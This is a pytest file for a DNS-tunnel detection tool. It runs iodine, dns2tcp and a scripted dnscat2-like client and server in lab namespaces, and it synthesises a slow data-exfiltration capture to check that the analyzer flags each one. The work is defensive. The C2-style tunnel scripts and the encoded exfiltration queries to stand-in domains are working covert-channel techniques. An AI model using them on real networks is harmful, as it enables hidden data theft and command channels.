"""Real tunnels in the lab, each flagged at its registered domain at medium or higher.

* iodine through a resolver: iodined in the lab's server namespace answers for
  ``t.tunnel-lab.com``; the client asks a dnsmasq relay on its own namespace's loopback
  (``--server=/tunnel-lab.com/10.213.0.4``), so the capture holds both legs (client to
  resolver, resolver to tunnel server). Five record types with five downstream encodings:
  NULL (raw), TXT (Base64), CNAME (Base32), MX (Base64u), A (Base32).
* dns2tcp (TXT and KEY requests) carrying random bytes, and carrying zeros: uncompressed data
  spells low-entropy names (``grkzgrkz...``) that only their length and freshness give away.
* a scripted dnscat2-like client (hex session id, sequence and data in the name; MX, TXT and
  CNAME answers with hex data from a dnslib server) asking through the relay, each name first
  with the ``corp.local`` search suffix appended, as a stub with a search list does;
* a slow exfiltration of about 1 KB per hour (wire messages written as a capture: an hour
  cannot pass in a test).
tcpdump in each client namespace writes the pcap the analyzer imports.
"""

from __future__ import annotations

import base64
import random
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from dnslib import TXT

from analyze import load
from analyze.findings import Finding, find, severity_rank
from tests.lab import Lab, LabError
from tests.lab.require import require_lab
from tests.test_detection_resolvers import _stop, _tcpdump
from tests.test_findings_wire import T0, Proc, Wire, busy_node

IODINE = [("NULL", None), ("TXT", "Base64"), ("CNAME", "Base32"), ("MX", "Base64u"),
          ("A", "Base32")]
DNS2TCP = [("TXT", "random"), ("KEY", "random"), ("TXT", "zeros")]
SERVER = "10.213.0.4"

#: Send argv[2] bytes (random or zeros) to 127.0.0.1:argv[1], wait, close (bounded).
_SEND = r"""
import os, socket, sys, time
s = socket.create_connection(("127.0.0.1", int(sys.argv[1])), timeout=5)
n = int(sys.argv[2])
s.sendall(os.urandom(n) if sys.argv[3] == "random" else bytes(n))
time.sleep(1.5)
s.close()
"""


def _wait_addr(ns: Any, prefix: str, proc: Any, seconds: float = 30) -> None:
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        out = subprocess.run(["ip", "-n", ns.name, "-4", "-o", "addr", "show", "dev", "dns0"],
                             capture_output=True, text=True, check=False).stdout
        if prefix in out:
            return
        assert proc.poll() is None, proc.output()
        time.sleep(0.1)
    raise AssertionError(f"no tunnel address on dns0 in {ns.name}: {proc.output()}")


def _push(lab: Lab, ns: Any) -> int:
    """3000 bytes through the tunnel; a fresh tunnel sometimes drops its first connection."""
    for attempt in range(3):
        try:
            return lab.push(ns, "10.214.0.1", 8999, 3000, timeout=20)
        except LabError:
            if attempt == 2:
                raise
            time.sleep(1)
    raise AssertionError("unreachable")


def _end(proc: Any) -> None:
    proc.terminate()
    try:
        proc.wait(timeout=5)
    except subprocess.TimeoutExpired:
        proc.kill()
        proc.wait(timeout=5)


def _iodine(lab: Lab, out: Path) -> dict[str, Path]:
    files: dict[str, Path] = {}
    served = lab.spawn(lab.server_ns, ["iodined", "-f", "-c", "-P", "dnstrail-lab", "-l",
                                       SERVER, "-p", "53", "-d", "dns0", "10.214.0.1/27",
                                       "t.tunnel-lab.com"])
    _wait_addr(lab.server_ns, "10.214.0.1", served)
    sink = lab.tcp_listener(8999, addrs=["10.214.0.1"], sink=True, max_seconds=300)
    try:
        for qtype, enc in IODINE:
            ns = lab.client_ns(["127.0.0.1"], timeout=1, attempts=1)
            relay = lab.spawn(ns, ["dnsmasq", "-k", "-C", "/dev/null", "--no-resolv",
                                   "--no-hosts", "--listen-address=127.0.0.1",
                                   "--bind-interfaces", "-p", "53", "--cache-size=0",
                                   f"--server=/tunnel-lab.com/{SERVER}", "-u", "root"])
            files[qtype] = out / f"iodine-{qtype}.pcap"
            dump = _tcpdump(lab, ns, files[qtype])
            client = lab.spawn(ns, ["iodine", "-f", "-r", "-m", "600", "-T", qtype,
                                    *(["-O", enc] if enc else []), "-P", "dnstrail-lab",
                                    "-d", "dns0", "127.0.0.1", "t.tunnel-lab.com"])
            try:
                _wait_addr(ns, "10.214.0.", client)
                assert _push(lab, ns) == 3000
            finally:
                _end(client)
                _end(relay)
            _stop(dump)
    finally:
        _end(served)
        _end(sink)
    return files


def _dns2tcp(lab: Lab, out: Path) -> dict[str, Path]:
    files: dict[str, Path] = {}
    sink = lab.tcp_listener(8998, addrs=[SERVER], sink=True, max_seconds=300)
    conf = lab.tmp / "dns2tcpd.conf"
    conf.write_text(f"listen = {SERVER}\nport = 53\nuser = root\nchroot = {lab.tmp}\n"
                    f"domain = d.tunnel-lab.net\nresources = sink:{SERVER}:8998\n")
    served = lab.spawn(lab.server_ns, ["dns2tcpd", "-F", "-f", str(conf)])
    try:
        time.sleep(0.5)
        for qtype, data in DNS2TCP:
            ns = lab.client_ns(timeout=1, attempts=1)
            key = f"{qtype}-{data}"
            files[key] = out / f"dns2tcp-{key}.pcap"
            dump = _tcpdump(lab, ns, files[key])
            client = lab.spawn(ns, ["dns2tcpc", "-z", "d.tunnel-lab.net", "-r", "sink", "-l",
                                    "2222", "-T", qtype, SERVER])
            try:
                deadline = time.monotonic() + 10
                while "Listening on port" not in client.output():
                    assert client.poll() is None and time.monotonic() < deadline, \
                        client.output()
                    time.sleep(0.05)
                r = lab.run(ns, [sys.executable, "-c", _SEND, "2222", "3000", data],
                            timeout=30)
                assert r.returncode == 0, r.stderr
            finally:
                _end(client)
            _stop(dump)
    finally:
        _end(served)
        _end(sink)
    return files


#: A dnscat2-like server: every name under argv[2] answered with hex data in the asked type
#: (MX, TXT or CNAME), NXDOMAIN elsewhere (bounded: 300 s).
_C2_SERVER = r"""
import os, socket, sys, time
from dnslib import CNAME, MX, QTYPE, RCODE, RR, TXT, DNSRecord
addr, zone = sys.argv[1], sys.argv[2]
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.bind((addr, 53))
s.settimeout(0.5)
print("ready", flush=True)
end = time.monotonic() + 300
while time.monotonic() < end:
    try:
        data, peer = s.recvfrom(4096)
    except socket.timeout:
        continue
    q = DNSRecord.parse(data)
    r = q.reply()
    name = str(q.q.qname)
    if not name.rstrip(".").endswith(zone):
        r.header.rcode = RCODE.NXDOMAIN
    else:
        blob = os.urandom(24).hex()
        t = QTYPE[q.q.qtype]
        rd = (MX(f"{blob}.{zone}", 10) if t == "MX" else CNAME(f"{blob}.{zone}")
              if t == "CNAME" else TXT(blob + os.urandom(40).hex()))
        r.add_answer(RR(q.q.qname, q.q.qtype, rdata=rd, ttl=0))
    s.sendto(r.pack(), peer)
"""

#: The dnscat2-like client: 30 messages through the resolver at argv[1], each name tried
#: first with the search suffix (NXDOMAIN), then as it is.
_C2_CLIENT = r"""
import os, socket, sys, time
from dnslib import DNSRecord
server, zone = sys.argv[1], sys.argv[2]
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(1.0)
session = os.urandom(2).hex()
for seq in range(30):
    name = f"{session}{seq:04x}{os.urandom(14).hex()}.{zone}"
    qtype = ("MX", "TXT", "CNAME")[seq % 3]
    for ask in (name + ".corp.local", name):
        s.sendto(DNSRecord.question(ask, qtype).pack(), (server, 53))
        try:
            s.recvfrom(4096)
        except socket.timeout:
            pass
    time.sleep(0.1)
"""


def _c2(lab: Lab, out: Path) -> dict[str, Path]:
    server = lab.spawn(lab.server_ns, [sys.executable, "-c", _C2_SERVER, SERVER,
                                       "c2.tunnel-lab.org"])
    ns = lab.client_ns(["127.0.0.1"], timeout=1, attempts=1)
    relay = lab.spawn(ns, ["dnsmasq", "-k", "-C", "/dev/null", "--no-resolv", "--no-hosts",
                           "--listen-address=127.0.0.1", "--bind-interfaces", "-p", "53",
                           "--cache-size=0", f"--server=/tunnel-lab.org/{SERVER}",
                           "--address=/corp.local/", "-u", "root"])
    try:
        deadline = time.monotonic() + 10
        while "ready" not in server.output():
            assert server.poll() is None and time.monotonic() < deadline, server.output()
            time.sleep(0.05)
        path = out / "c2.pcap"
        dump = _tcpdump(lab, ns, path)
        r = lab.run(ns, [sys.executable, "-c", _C2_CLIENT, "127.0.0.1", "c2.tunnel-lab.org"],
                    timeout=60)
        assert r.returncode == 0, r.stderr
        _stop(dump)
    finally:
        _end(relay)
        _end(server)
    return {"c2": path}


@pytest.fixture(scope="module")
def pcaps(tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict[str, Path]]:
    require_lab()
    for tool in ("iodine", "iodined", "dns2tcpc", "dns2tcpd", "dnsmasq", "tcpdump"):
        if subprocess.run(["which", tool], capture_output=True, check=False).returncode:
            pytest.skip(f"{tool} is not installed (deploy/setup.sh --lab)")
    if not Path("/dev/net/tun").exists():
        pytest.skip("/dev/net/tun is missing")
    out = tmp_path_factory.mktemp("tunnels")
    with Lab() as lab:
        yield {**{f"iodine-{k}": v for k, v in _iodine(lab, out).items()},
               **{f"dns2tcp-{k}": v for k, v in _dns2tcp(lab, out).items()},
               **_c2(lab, out)}


def _top(findings: list[Finding]) -> list[Finding]:
    return sorted((f for f in findings if f.kind == "tunneling"), key=lambda f: -f.rank)


@pytest.mark.lab
@pytest.mark.parametrize(("qtype", "enc"), IODINE, ids=[t for t, _ in IODINE])
def test_iodine_through_a_resolver(pcaps: dict[str, Path], tmp_path: Path, qtype: str,
                                   enc: str | None) -> None:
    cap = load(pcaps[f"iodine-{qtype}"], work_dir=tmp_path)
    tx = cap.transactions
    legs = {(c, s) for c, s in zip(tx["client_addr"], tx["server_addr"])}
    assert ("127.0.0.1", "127.0.0.1") in legs and any(s == SERVER for _, s in legs)
    assert set(tx["qtype"]) >= {qtype}
    hits = _top(find(cap))
    # both legs: the client's queries to the relay, and the relay's to the tunnel server
    assert {f.client for f in hits} == {c for c, _ in legs}, [(f.client, f.severity)
                                                            for f in hits]
    for f in hits:
        assert f.registered_domain == "tunnel-lab.com"
        assert f.rank >= severity_rank("medium"), f.explanation
        assert f.metrics["fired"]


@pytest.mark.lab
@pytest.mark.parametrize(("qtype", "data"), DNS2TCP, ids=[f"{t}-{d}" for t, d in DNS2TCP])
def test_dns2tcp(pcaps: dict[str, Path], tmp_path: Path, qtype: str, data: str) -> None:
    cap = load(pcaps[f"dns2tcp-{qtype}-{data}"], work_dir=tmp_path)
    assert set(cap.transactions["qtype"]) == {qtype}
    hits = _top(find(cap))
    assert [f.registered_domain for f in hits] == ["tunnel-lab.net"]
    f = hits[0]
    assert f.rank >= severity_rank("medium"), f.explanation
    if data == "zeros":  # low-entropy names: only length and freshness give them away
        assert f.metrics["entropy_bits_per_char"] < 3.5
        assert "long_names" in f.metrics["fired"]
        assert "low-entropy" in f.explanation


@pytest.mark.lab
def test_dnscat2_like_client_with_a_search_suffix(pcaps: dict[str, Path],
                                                  tmp_path: Path) -> None:
    cap = load(pcaps["c2"], work_dir=tmp_path)
    tx = cap.transactions
    assert tx["qname"].str.endswith(".c2.tunnel-lab.org.corp.local").sum() == 30
    hits = _top(find(cap))
    by_client = {f.client: f for f in hits}
    assert {f.registered_domain for f in hits} == {"tunnel-lab.org"}
    client = by_client["127.0.0.1"]  # the leg that carries the suffixed tries
    assert client.rank >= severity_rank("medium")
    assert client.metrics["search_suffixes"] == ["corp.local"]
    assert client.metrics["queries"] == 30  # a suffixed try and the bare name: one query
    assert set(client.metrics["answer_bytes_by_type"]) == {"MX", "TXT", "CNAME"}
    assert "timer" not in client.explanation or client.metrics["cadence_cv"] <= 0.3
    # the relay's leg to the tunnel server has only the bare names
    relay = [f for c, f in by_client.items() if c != "127.0.0.1"]
    assert relay and relay[0].rank >= severity_rank("medium")


def test_slow_exfiltration_of_a_kilobyte_an_hour(tmp_path: Path) -> None:
    """About 1 KB an hour: 24 queries of ~45 data bytes, one every 150 s, TXT acks, in the
    middle of a busy node's ordinary traffic."""
    rng = random.Random(1024)
    wire = Wire()
    busy_node(wire, rng)
    proc = Proc(3011, "backup-agent", "10.244.1.31")
    sent = 0
    for i in range(24):
        chunk = rng.randbytes(28)
        sent += len(chunk)
        label = base64.b32encode(chunk).decode().rstrip("=").lower()
        wire.exchange(proc, T0 + i * 150 * 10**9, f"{label}.{i:x}.s.slow-exfil.com", "TXT",
                      answers=[TXT("ok")], ttl=0)
    assert 600 <= sent <= 1100
    cap = load(wire.write(tmp_path / "cap"), work_dir=tmp_path / "work")
    hits = _top(find(cap))
    assert [(f.registered_domain, f.comm) for f in hits] == [("slow-exfil.com",
                                                             "backup-agent")]
    f = hits[0]
    assert f.rank >= severity_rank("medium")
    assert f.metrics["span_s"] >= 3400 and f.metrics["name_bytes_per_min"] < 30


def test_the_sample_tunnel_summary_counts_its_long_names() -> None:
    """The summary gives the number of names with a long label (once printed as 'False')."""
    from analyze import load

    cap = load(Path(__file__).resolve().parents[1] / "samples" / "incident")
    (tun,) = [f for f in cap.findings() if f.kind == "tunneling"
              and f.registered_domain == "cdn-telemetry-sync.net"]
    n = tun.metrics["long_label_names"]
    assert n >= 80
    assert f"{n} of {tun.metrics['distinct_subdomains']} distinct names" in tun.explanation
    assert "False" not in tun.explanation and "True" not in tun.explanation
